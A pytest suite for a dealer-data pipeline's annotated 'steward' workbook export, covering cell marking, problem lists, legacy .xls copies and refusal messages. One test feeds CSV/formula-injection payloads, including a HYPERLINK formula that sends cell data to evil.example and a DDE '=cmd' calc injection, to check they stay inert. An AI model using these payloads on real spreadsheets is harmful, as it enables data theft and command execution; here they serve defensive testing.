"""The steward's marked copy: exactly the bad cells red or yellow with comments, everything else as it was."""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import polars as pl
import pytest
import xlsxwriter
from workbooks import Formatted, Formula, ole2_container, write_xlsx, xls_bytes

from dealersync.exports import steward as steward_export
from dealersync.exports.cells import FORMULA_TRIGGERS
from dealersync.exports.steward import (
    MAX_COMMENT,
    MAX_CSV_TEXT,
    MAX_TEXT,
    PROBLEM_SHEET,
    REJECTED_FILL,
    WARNING_FILL,
    file_owner,
    write_steward_report,
)
from dealersync.parsed import REFUSED, ParsedFile
from dealersync.pipeline import process_file
from dealersync.reader import RESAVE
from dealersync.samples import generate_inbox
from dealersync.settings import Settings
from dealersync.transforms.validate import Refs

TODAY = date(2026, 11, 20)
RED, YELLOW = REJECTED_FILL.fgColor.rgb, WARNING_FILL.fgColor.rgb
VISIT_HEADERS = ["经销商代码", "工单号", "客户编号", "车架号", "进厂日期", "类型", "金额"]
VIN = "LJ1DS10A7RA000123"  # a VIN whose check digit is right
VIN_BAD_CHECK = "LFPH4ACB7A1234567"  # well formed, wrong check digit: a warning
KNOWN_DEALERS = Refs(dealers=pl.DataFrame({"dealer_code": ["D0001"], "region": ["华中"]}))


def visit(n: int, **changes) -> list[object]:
    row = {"经销商代码": "D0001", "工单号": f"WO{n:04d}", "客户编号": "C00001", "车架号": VIN}
    row |= {"进厂日期": date(2026, 3, n % 28 + 1), "类型": "保养", "金额": 120.5} | changes
    return [row[h] for h in VISIT_HEADERS]


def check(path: Path, aliases, refs: Refs = Refs()):
    return process_file(path, today=TODAY, aliases=aliases, refs=refs, settings=Settings())


def column_of(sheet, header_row: int, header: str) -> int:
    """The column whose header cell, stripped, reads `header` (what a steward looks for)."""
    for cell in sheet[header_row]:
        if cell.value is not None and str(cell.value).strip() == header:
            return cell.column
    raise AssertionError(f"no header {header!r} in row {header_row} of {sheet.title}")


def fill_of(cell) -> tuple:
    return cell.fill.fill_type, cell.fill.fgColor.rgb


def marked_cells(book) -> dict[tuple[str, int, int], tuple[str, str | None]]:
    """(sheet, row, column) -> (fill colour, comment) of every cell filled red or yellow."""
    found = {}
    for sheet in book.worksheets[1:]:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.fill.fill_type == "solid" and cell.fill.fgColor.rgb in (RED, YELLOW):
                    found[(sheet.title, cell.row, cell.column)] = (
                        cell.fill.fgColor.rgb,
                        cell.comment.text if cell.comment else None,
                    )
    return found


def problem_rows(book) -> list[dict]:
    """The problem list's table as dicts, with the link of each line."""
    sheet = book.worksheets[0]
    header_row = next(r for r in range(1, 30) if sheet.cell(r, 1).value == "工作表 Sheet")
    headers = [c.value for c in sheet[header_row]]
    rows = []
    for row in sheet.iter_rows(min_row=header_row + 1):
        if row[0].value is None:
            break
        rows.append(dict(zip(headers, [c.value for c in row], strict=True)) | {"link": row[1].hyperlink})
    return rows


@pytest.fixture(scope="module")
def generated(tmp_path_factory):
    """A messy generated dealer workbook with about 5% bad cells, checked, and its marked copy."""
    folder = tmp_path_factory.mktemp("steward")
    manifest = generate_inbox(
        folder / "inbox", today=TODAY, dealers=1, visits_per_dealer=120, seed=11, bad_cell_rate=0.05
    )
    from dealersync.schemas.aliases import load_aliases

    source = next(iter(manifest.dealer_files.values()))
    parsed = check(source, load_aliases())
    report = write_steward_report(parsed, source, folder / "out")
    return manifest, source, parsed, report


def test_exactly_the_bad_cells_are_red_with_a_comment_in_both_languages(generated):
    manifest, source, parsed, report = generated
    original = openpyxl.load_workbook(source)
    headers = {(s.sheet): s.header_row for s in manifest.sheets if s.file == source.name}
    expected = {}
    for bad in (b for b in manifest.bad_cells if b.file == source.name):
        column = column_of(original[bad.sheet], headers[bad.sheet], bad.column_name)
        expected[(bad.sheet, bad.excel_row, column)] = bad.rule
    assert len(expected) >= 10
    marked = marked_cells(openpyxl.load_workbook(report.workbook))
    assert set(marked) == set(expected)
    problems = parsed.problems
    for place, rule in expected.items():
        colour, comment = marked[place]
        assert colour == RED
        message = problems.filter(
            pl.col("rule") == rule, pl.col("excel_row") == place[1], pl.col("sheet") == place[0]
        )
        assert comment is not None and f"[{rule}]" in comment
        assert message["message_zh"][0] in comment and message["message"][0] in comment


def test_every_other_cell_value_format_and_sheet_is_unchanged(generated):
    _, source, _, report = generated
    original = openpyxl.load_workbook(source)
    annotated = openpyxl.load_workbook(report.workbook)
    assert annotated.sheetnames == [PROBLEM_SHEET, *original.sheetnames]
    marked = marked_cells(annotated)
    for before in original.worksheets:
        after = annotated[before.title]
        assert after.merged_cells.ranges == before.merged_cells.ranges
        assert after.freeze_panes == before.freeze_panes
        for row in before.iter_rows():
            for cell in row:
                twin = after.cell(cell.row, cell.column)
                assert twin.value == cell.value, cell.coordinate
                assert twin.number_format == cell.number_format, cell.coordinate
                assert (twin.font.b, twin.font.sz) == (cell.font.b, cell.font.sz), cell.coordinate
                if (before.title, cell.row, cell.column) not in marked:
                    assert fill_of(twin) == fill_of(cell), cell.coordinate
                    assert twin.comment is None, cell.coordinate
        # Nothing new was written into the data sheets (the marks only fill cells).
        assert after.max_row == before.max_row


def test_the_problem_list_links_every_problem_to_its_cell(generated):
    _, _, parsed, report = generated
    book = openpyxl.load_workbook(report.workbook)
    rows = problem_rows(book)
    assert len(rows) == parsed.problems.height == report.problems
    for row in rows:
        target = row["link"].location
        sheet_name, address = target.rsplit("!", 1)
        assert sheet_name.strip("'").replace("''", "'") == row["工作表 Sheet"]
        assert address == row["单元格 Cell"] and address.endswith(str(row["行 Row"]))
        cell = book[row["工作表 Sheet"]][address]
        assert cell.fill.fgColor.rgb == RED
        assert row["Message"] in cell.comment.text
    csv_rows = list(csv.DictReader(report.problems_csv.open(encoding="utf-8-sig")))
    assert [r["cell"] for r in csv_rows] == [r["单元格 Cell"] for r in rows]
    assert {r["rule"] for r in csv_rows} == set(parsed.problems["rule"])


def test_a_whole_row_problem_marks_the_row_and_a_missing_column_marks_the_header(tmp_path, aliases):
    rows = [
        VISIT_HEADERS,
        visit(1),
        visit(2, 车架号=VIN_BAD_CHECK),  # warning: only the VIN cell, yellow
        visit(1, 金额=99),  # repeats WO0001: the whole row, red
        visit(3, 经销商代码="D9999"),  # unknown dealer: the whole row, red
    ]
    calls = [["经销商代码", "记录编号", "通话时间", "通话类型", "客户编号", "结果"]]  # 业务员 is missing
    calls.append(["D0001", "R1", date(2026, 3, 5), "咨询", "C00001", "接通"])
    path = write_xlsx(tmp_path / "d.xlsx", {"维修保养记录": rows, "电话记录": calls})
    parsed = check(path, aliases, KNOWN_DEALERS)
    report = write_steward_report(parsed, path, tmp_path / "out")
    book = openpyxl.load_workbook(report.workbook)
    marked = marked_cells(book)
    visits, width = "维修保养记录", len(VISIT_HEADERS)
    expected = {(visits, 3, 4): YELLOW}
    expected |= {(visits, 4, c): RED for c in range(1, width + 1)}
    expected |= {(visits, 5, c): RED for c in range(1, width + 1)}
    expected[("电话记录", 1, 7)] = RED  # the cell after the last header: where 业务员 should go
    assert {place: colour for place, (colour, _) in marked.items()} == expected
    assert "[duplicate_key]" in marked[(visits, 4, 2)][1] and "row 2" in marked[(visits, 4, 2)][1]
    assert "[unknown_dealer]" in marked[(visits, 5, 1)][1]
    assert "[vin_check_digit]" in marked[(visits, 3, 4)][1]
    assert "业务员" in marked[("电话记录", 1, 7)][1]
    listed = problem_rows(book)
    missing = [r for r in listed if r["规则 Rule"] == "missing_column"]
    assert len(missing) == 1 and missing[0]["单元格 Cell"] == "G1"
    assert "1 rows" in missing[0]["Message"]


def test_the_summary_counts_rows_of_different_sheets_apart(tmp_path, aliases):
    calls = [["经销商代码", "记录编号", "通话时间", "通话类型", "客户编号", "业务员", "结果"]]
    calls.append(["D0001", "R1", "2026-02-30", "咨询", "C00001", "小李", "接通"])  # row 2: a bad date
    visits = [VISIT_HEADERS, visit(1, 金额=-5)]  # row 2 too: a negative amount
    path = write_xlsx(tmp_path / "d.xlsx", {"维修保养记录": visits, "电话记录": calls})
    report = write_steward_report(check(path, aliases, KNOWN_DEALERS), path, tmp_path / "out")
    book = openpyxl.load_workbook(report.workbook)
    assert "拒收 2 行、警告 0 行 / 2 rejections" in book.worksheets[0]["A3"].value
    assert "-5" in {row["单元格内容 Value"] for row in problem_rows(book)}  # as written, no apostrophe


def test_a_problem_inside_a_merged_range_is_noted_on_the_range(tmp_path, aliases):
    """A merged cell below the first cannot hold a comment: the range's first cell holds them all."""
    path = tmp_path / "merged.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet("维修保养记录")
        sheet.write_row(0, 0, VISIT_HEADERS)
        for row, n in ((1, 1), (2, 2)):
            sheet.write_row(row, 0, visit(n)[:4])
            sheet.write_row(row, 5, visit(n)[5:])
        sheet.merge_range(1, 4, 2, 4, "2026-02-30")  # one bad intake date over both visits
    parsed = check(path, aliases, KNOWN_DEALERS)
    assert parsed.rows_rejected == 2
    report = write_steward_report(parsed, path, tmp_path / "out")
    assert report.workbook is not None
    marked = marked_cells(openpyxl.load_workbook(report.workbook))
    colour, comment = marked[("维修保养记录", 2, 5)]
    assert colour == RED and comment.count("2026-02-30") >= 2


def test_hostile_cells_never_break_the_copy_or_the_list(tmp_path, aliases):
    hostile_formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    rows = [
        [*VISIT_HEADERS, "=cmd|' /C calc'!A0"],
        visit(1, 类型=hostile_formula),
        visit(2, 金额="9" * 32767),
        visit(3, 类型="保养\x07\x1b"),
        visit(4, 金额=Formula("=1/0", "#DIV/0!")),
        visit(5, 类型="+1-1", 工单号="@SUM(A1)"),
        visit(6, 类型="-" + "长" * 5000),
    ]
    path = write_xlsx(tmp_path / "hostile.xlsx", {"It's 维修 (记录)": rows})
    parsed = check(path, aliases)
    assert parsed.status == "parsed" and parsed.problems.height >= 5
    report = write_steward_report(parsed, path, tmp_path / "out")
    with zipfile.ZipFile(report.workbook) as archive:
        assert archive.testzip() is None
    book = openpyxl.load_workbook(report.workbook)
    data = book["It's 维修 (记录)"]
    assert data["G5"].value == "=1/0"  # the dealer's own formula is still theirs, untouched
    assert data["F2"].value == hostile_formula and data["F2"].data_type == "s"
    listed = book.worksheets[0]
    for row in listed.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s", cell.coordinate  # a string cell is never evaluated
                assert len(cell.value) <= MAX_TEXT + 40
                assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in cell.value)
    links = [row["link"].location for row in problem_rows(book)]
    assert links and all(link.startswith("'It''s 维修 (记录)'!") for link in links)
    shown = {row["单元格内容 Value"] for row in problem_rows(book)}
    assert "+1-1" in shown and hostile_formula in shown  # as the dealer wrote them: no apostrophe added
    for row in data.iter_rows():
        for cell in row:
            if cell.comment:
                assert len(cell.comment.text) <= MAX_COMMENT + 40
                assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in cell.comment.text)
    with report.problems_csv.open(encoding="utf-8-sig", newline="") as stream:
        for record in csv.DictReader(stream):
            for value in record.values():
                assert not value.startswith(FORMULA_TRIGGERS) or re.fullmatch(r"[-+][0-9]+(\.[0-9]+)?", value)
                assert len(value) <= MAX_CSV_TEXT + 1


def test_a_workbook_with_macros_keeps_them(tmp_path, aliases):
    vba = ole2_container({"VBA": b"Attribute VB_Name", "PROJECT": b"ID="})
    path = write_xlsx(
        tmp_path / "d.xlsm", {"维修保养记录": [VISIT_HEADERS, visit(1, 类型="年检")]}, vba_project=vba
    )
    report = write_steward_report(check(path, aliases), path, tmp_path / "out")
    assert report.workbook.name == "d.annotated.xlsm"
    with zipfile.ZipFile(path) as before, zipfile.ZipFile(report.workbook) as after:
        assert after.read("xl/vbaProject.bin") == before.read("xl/vbaProject.bin")
    assert any("macros are kept" in note for note in report.notes)
    assert marked_cells(openpyxl.load_workbook(report.workbook, keep_vba=True)) != {}


def test_a_legacy_xls_gets_an_xlsx_copy_of_its_cells_saying_so(tmp_path, aliases):
    rows = [["维修保养记录 2026年3月"], [], VISIT_HEADERS, visit(1), visit(2, 类型="年检")]
    path = tmp_path / "old.xls"
    path.write_bytes(xls_bytes({"维修保养记录": rows}))
    parsed = check(path, aliases)
    report = write_steward_report(parsed, path, tmp_path / "out")
    assert report.workbook.name == "old.annotated.xlsx"
    book = openpyxl.load_workbook(report.workbook)
    sheet = book["维修保养记录"]
    assert sheet["A1"].value == "维修保养记录 2026年3月"
    assert [c.value for c in sheet[3]] == VISIT_HEADERS
    assert sheet["B4"].value == "WO0001" and sheet["F5"].value == "年检"
    assert set(marked_cells(book)) == {("维修保养记录", 5, 6)}
    notes = [c.value for c in book.worksheets[0]["A"] if c.value]
    assert any(".xls" in note and "copy of its cells" in note for note in notes)
    # The copy, fixed and sent again, reads as the original did.
    sheet["F5"].value = "维修"
    fixed = tmp_path / "fixed.xlsx"
    book.save(fixed)
    again = check(fixed, aliases)
    assert again.problems.is_empty() and again.rows_read == 2


def test_the_xlsx_copy_of_a_legacy_xls_shows_its_cells_as_excel_does(tmp_path, aliases):
    """The copy of an .xls held its numbers as stored: customer 00123 as 123, the landline without its 0,
    a day in Chinese Excel's own format as its serial and a time alone as 0.4375; and its merged customer
    cells only in their first row. Fixed and sent back, it changed the customers, rejected their other
    vehicles as blank and was refused for a date column and a time column it no longer told apart."""
    headers = ["经销商代码", "客户编号", "客户名称", "联系电话", "车架号", "车型", "购车日期"]
    customer = ["D0001", Formatted(123, "00000", rk=True), "王建国", Formatted(1088886666, "00000000000")]
    customers = [
        headers,
        [*customer, VIN, "EV-3", Formatted(45356, 31, rk=True)],
        ["D0001", None, None, None, "LJ1DS10A9RA000124", "EV-5", Formatted(45356, 31, rk=True)],
        ["D0001", Formatted(456, "00000", rk=True), "李四", "13812345678", "BADVIN", "EV-3", None],
    ]
    calls = [
        ["记录编号", "经销商代码", "通话日期", "通话时间", "通话类型", "客户编号", "业务员", "结果"],
        ["CL1", "D0001", Formatted(46340, 31, rk=True), Formatted(0.4375, 32), "咨询", "C1", "小王", "接通"],
    ]
    path = tmp_path / "old.xls"
    merged = [(1, 2, column, column) for column in (1, 2, 3)]
    path.write_bytes(xls_bytes({"客户档案": customers, "电话回访记录": calls}, merged={"客户档案": merged}))
    original = check(path, aliases)
    book = openpyxl.load_workbook(write_steward_report(original, path, tmp_path / "out").workbook)
    sheet = book["客户档案"]
    assert [c.value for c in sheet[2]] == [
        "D0001",
        "00123",
        "王建国",
        "01088886666",
        VIN,
        "EV-3",
        "2024-03-05 00:00:00",
    ]
    assert {str(cells) for cells in sheet.merged_cells.ranges} == {"B2:B3", "C2:C3", "D2:D3"}
    assert [c.value for c in book["电话回访记录"][2]][2:4] == ["2026-11-14 00:00:00", "10:30:00"]
    sheet["E4"].value = "LJ1DS10A0RA000125"
    fixed = tmp_path / "fixed.xlsx"
    book.save(fixed)
    again = check(fixed, aliases)
    assert again.problems.is_empty() and again.rows_read == original.rows_read


def test_a_legacy_xls_whose_merged_range_ends_before_it_starts_still_gets_its_copy(tmp_path, aliases):
    """A damaged MERGEDCELLS record (last row above the first) made openpyxl raise while writing the copy."""
    path = tmp_path / "old.xls"
    rows = [VISIT_HEADERS, visit(1, 类型="年检")]
    path.write_bytes(xls_bytes({"维修保养记录": rows}, merged={"维修保养记录": [(1, 0, 2, 2), (0, 0, 5, 6)]}))
    book = openpyxl.load_workbook(write_steward_report(check(path, aliases), path, tmp_path / "out").workbook)
    assert {str(cells) for cells in book["维修保养记录"].merged_cells.ranges} == {"F1:G1"}


def test_a_refused_file_gets_its_reason_in_the_csv_and_no_copy(tmp_path, aliases):
    path = tmp_path / "notes.xlsx"
    path.write_text("经销商代码,客户编号\nD0001,C1\n", encoding="utf-8")
    parsed = check(path, aliases)
    report = write_steward_report(parsed, path, tmp_path / "out")
    assert report.workbook is None
    (record,) = list(csv.DictReader(report.problems_csv.open(encoding="utf-8-sig")))
    assert record["rule"] == "file_refused" and "not an Excel workbook" in record["message"]
    # A clerk who reads no English still learns what to do.
    assert "请用 Excel 打开，另存为 .xlsx 后重新发送" in record["message_zh"]


@pytest.mark.parametrize(
    ("reason", "says"),
    [
        (
            f"the file is damaged or incomplete (not a readable zip archive); {RESAVE}",
            "另存为 .xlsx 后重新发送",
        ),
        (
            "the workbook is protected with a password, so it cannot be read; open it in Excel, remove the "
            "password ..., save it and send it again",
            "去掉打开密码",
        ),
        (
            "no sheet of this workbook is one we know ('Sheet1': ...); name each sheet after what it holds, "
            "e.g. 客户档案, 维修保养记录, 跟踪服务电话记录, and send the file again",
            "按内容给工作表命名",
        ),
        (
            "sheet 'x' has 2,000,000 rows, more than the 1,048,576 a sheet may have; split it into smaller "
            "workbooks (for example one per month) and send them again",
            "拆成几个较小的工作簿",
        ),
        (f"sheet 'x' of the workbook is damaged and cannot be read (bad record); {RESAVE}", "另存为 .xlsx"),
        (
            "sheet 'x': the columns '手机' (column C) and '联系电话' (column D) both mean phone (联系电话); delete "
            "or rename one of them and send the file again",
            "删除或重命名其中一列",
        ),
    ],
)
def test_a_refusal_tells_the_clerk_in_chinese_what_to_do(reason, says):
    refused = ParsedFile(Path("x.xlsx"), "x.xlsx", "0" * 64, 10, REFUSED, reason=reason)
    (message_zh,) = steward_export._refusal_frame(refused)["message_zh"]
    assert says in message_zh and reason in message_zh


def test_openpyxl_is_refused_without_defusedxml(tmp_path, aliases, monkeypatch):
    import openpyxl.xml

    path = write_xlsx(tmp_path / "d.xlsx", {"维修保养记录": [VISIT_HEADERS, visit(1)]})
    parsed = check(path, aliases)
    steward_export._check_xml_parser()  # the installed openpyxl parses through defusedxml
    monkeypatch.setattr(openpyxl.xml, "DEFUSEDXML", False)
    with pytest.raises(steward_export.UnsafeXmlParser):
        write_steward_report(parsed, path, tmp_path / "out")


def test_the_file_belongs_to_its_dealer(generated, aliases):
    manifest, _, parsed, _ = generated
    assert file_owner(parsed) == next(iter(manifest.dealer_files))
    assert file_owner(check(manifest.reference_file, aliases)) == "reference"
    assert file_owner(check(manifest.warehouse_file, aliases)) == "warehouse"


def test_a_file_too_big_to_copy_gets_its_problem_list_with_addresses(tmp_path, aliases):
    rows = [["维修保养记录"], VISIT_HEADERS, visit(1), visit(2, 类型="年检"), visit(3, 进厂日期="2026-02-30")]
    path = write_xlsx(tmp_path / "big.xlsx", {"维修保养记录": rows})
    report = write_steward_report(check(path, aliases), path, tmp_path / "out", max_copy_rows=2)
    book = openpyxl.load_workbook(report.workbook)
    assert book.sheetnames == [PROBLEM_SHEET]
    listed = problem_rows(book)
    assert [(r["单元格 Cell"], r["规则 Rule"], r["link"]) for r in listed] == [
        ("F4", "not_in_list", None),
        ("E5", "not_a_date", None),
    ]
    assert any(
        "more than the 2 a marked copy is made for" in (c.value or "") for c in book.worksheets[0]["A"]
    )
    assert [r["cell"] for r in csv.DictReader(report.problems_csv.open(encoding="utf-8-sig"))] == ["F4", "E5"]


def test_a_file_name_with_undecodable_bytes_still_gets_its_copy(tmp_path, aliases):
    import dataclasses
    import os
    import shutil

    path = write_xlsx(tmp_path / "d.xlsx", {"维修保养记录": [VISIT_HEADERS, visit(1, 类型="年检")]})
    hostile_name = os.fsdecode(b"D0001\xff\x07.xlsx")
    shutil.copy(path, tmp_path / hostile_name)
    parsed = dataclasses.replace(check(path, aliases), file_name=hostile_name, path=tmp_path / hostile_name)
    report = write_steward_report(parsed, tmp_path / hostile_name, tmp_path / "out")
    assert report.workbook.name == "D0001_.annotated.xlsx"
    assert openpyxl.load_workbook(report.workbook).worksheets[0]["A1"].value == "文件 File: D0001?.xlsx"
    (record,) = list(csv.DictReader(report.problems_csv.open(encoding="utf-8-sig")))
    assert record["file"] == "D0001?.xlsx"


def test_a_marked_copy_fixed_and_sent_again_is_marked_afresh(tmp_path, aliases):
    """README step 4: the steward fixes red cells in the marked copy and sends it back; its new copy marks
    only what is still wrong, under one problem list, not the old list, fills and comments of fixed cells."""
    rows = [VISIT_HEADERS, visit(1, 车架号="VIN?"), visit(2, 车架号="NOT A VIN")]
    path = write_xlsx(tmp_path / "D0001_台账.xlsx", {"维修保养记录": rows})
    first = write_steward_report(check(path, aliases), path, tmp_path / "first")
    fixed = openpyxl.load_workbook(first.workbook)
    vin = column_of(fixed["维修保养记录"], 1, "车架号")
    fixed["维修保养记录"].cell(2, vin).value = VIN  # row 2 fixed, row 3 still wrong
    resent = tmp_path / "sent again" / "D0001_台账.xlsx"
    resent.parent.mkdir()
    fixed.save(resent)

    parsed = check(resent, aliases)
    second = openpyxl.load_workbook(write_steward_report(parsed, resent, tmp_path / "second").workbook)
    assert second.sheetnames == [PROBLEM_SHEET, "维修保养记录"]
    marked = marked_cells(second)
    assert list(marked) == [("维修保养记录", 3, vin)]
    assert marked[("维修保养记录", 3, vin)][1].count("[vin_format]") == 1
    assert [r["单元格 Cell"] for r in problem_rows(second)] == [f"{openpyxl.utils.get_column_letter(vin)}3"]
    assert not any(PROBLEM_SHEET in str(c.value) for row in second.worksheets[0].iter_rows() for c in row)
